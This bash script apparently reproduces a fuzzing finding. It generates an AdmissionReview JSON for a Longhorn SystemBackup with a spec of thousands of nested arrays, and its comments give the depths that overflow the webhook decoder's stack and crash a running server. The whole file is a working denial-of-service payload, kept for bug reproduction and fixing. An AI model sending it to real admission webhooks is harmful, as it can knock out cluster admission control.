#!/usr/bin/env bash
# Writes a SystemBackup CREATE AdmissionReview whose spec holds DEPTH nested empty arrays
# (default 12812: the smallest depth that overflows the stack of build-fuzz/fuzz_admission).
#   fuzz/findings/deep-nesting.sh 12812 >/tmp/deep.json && build-fuzz/fuzz_admission /tmp/deep.json
# About 58,000 levels (117 KB) overflow the 8 MiB stack of the production gcc build in
# webhook::DecodeReview; 100,000 levels (200 KB) kill a running server (SIGSEGV).
set -euo pipefail
depth=${1:-12812}
open=$(printf '%*s' "$depth" '' | tr ' ' '[')
close=$(printf '%*s' "$depth" '' | tr ' ' ']')
printf '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u","resource":{"group":"longhorn.io","version":"v1beta2","resource":"systembackups"},"operation":"CREATE","namespace":"longhorn-system","object":{"metadata":{"name":"x"},"spec":{"a":%s%s}}}}' "$open" "$close"
